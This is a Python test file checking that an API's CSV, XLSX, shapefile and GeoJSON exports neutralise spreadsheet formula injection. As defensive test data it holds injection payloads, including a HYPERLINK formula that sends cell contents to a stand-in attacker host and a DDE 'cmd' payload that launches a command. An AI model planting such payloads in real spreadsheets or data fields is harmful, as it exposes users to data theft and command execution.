"""Formula injection (issue 14 item 2): every export path of the API neutralises formulas.

Files are opened with openpyxl (no cell may be a formula) and read back with Python's
``csv`` module (no text field may start with a formula character).
"""

from __future__ import annotations

import csv
import io
import json
import zipfile

import geopandas as gpd
import openpyxl
import pytest

from api.testing import SAMPLE_ROWS, make_enterprises

HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"点击")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1,1)",
    "\t=1+1",
]
_RISKY = ("=", "+", "-", "@", "\t", "\r", "\n")


@pytest.fixture
def hostile_client(make_client, store):  # noqa: ANN001, ANN201
    rows = [(HOSTILE[i],) + tuple(r[1:]) for i, r in enumerate(SAMPLE_ROWS)]
    ents = make_enterprises(rows)
    ents["address"] = "=1+2"
    store.load_enterprises(ents, loaded_by="fixture", source_name="恶意名录.csv",
                           source_sha256="a" * 64)
    return make_client()


def _number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def _check_csv(body: bytes) -> list[dict[str, str]]:
    rows = list(csv.DictReader(io.StringIO(body.decode("utf-8-sig"), newline="")))
    assert sorted(r["name"] for r in rows) == sorted("'" + v for v in HOSTILE)
    for r in rows:
        for col, value in r.items():
            assert _number(value) or not value.startswith(_RISKY), (col, value)
    return rows


def test_items_csv_neutralises_formulas(hostile_client) -> None:  # noqa: ANN001
    r = hostile_client.get("/collections/enterprises/items", params={"f": "csv"})
    assert r.status_code == 200, r.text
    rows = _check_csv(r.content)
    assert {row["address"] for row in rows} == {"'=1+2"}
    assert all(_number(row["lon"]) for row in rows)  # numbers stay numbers


def test_export_csv_neutralises_formulas(hostile_client) -> None:  # noqa: ANN001
    r = hostile_client.get("/exports/enforcement", params={"format": "csv"})
    assert r.status_code == 200, r.text
    _check_csv(r.content)


def test_export_xlsx_has_no_formula_cells(hostile_client, tmp_path) -> None:  # noqa: ANN001
    r = hostile_client.get("/exports/enforcement", params={"format": "xlsx"})
    assert r.status_code == 200, r.text
    path = tmp_path / "e.xlsx"
    path.write_bytes(r.content)
    wb = openpyxl.load_workbook(path)
    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row
             if c.value is not None]
    assert not [(c.parent.title, c.coordinate) for c in cells if c.data_type == "f"]
    assert not [c.value for c in cells if isinstance(c.value, str) and c.value.startswith(_RISKY)]
    names = {c.value for c in wb.worksheets[1]["C"][1:]}
    assert names == {"'" + v for v in HOSTILE}
    # the 说明 sheet names the stored load the export came from
    notes = {r[0]: r[1] for r in wb.worksheets[-1].iter_rows(values_only=True) if r[0]}
    assert "恶意名录.csv" in notes.values() and "a" * 64 in notes.values()


def test_export_shapefile_neutralises_and_geojson_keeps_text(hostile_client, tmp_path) -> None:  # noqa: ANN001
    shp = hostile_client.get("/exports/enforcement", params={"format": "shp"})
    path = tmp_path / "e.zip"
    path.write_bytes(shp.content)
    assert sorted(gpd.read_file(f"zip://{path}")["name"]) == sorted("'" + v for v in HOSTILE)
    with zipfile.ZipFile(path) as zf:
        assert json.loads(zf.read("provenance.json"))["registry"]["file"] == "恶意名录.csv"
    gj = hostile_client.get("/exports/enforcement", params={"format": "geojson"}).json()
    assert sorted(f["properties"]["name"] for f in gj["features"]) == sorted(HOSTILE)
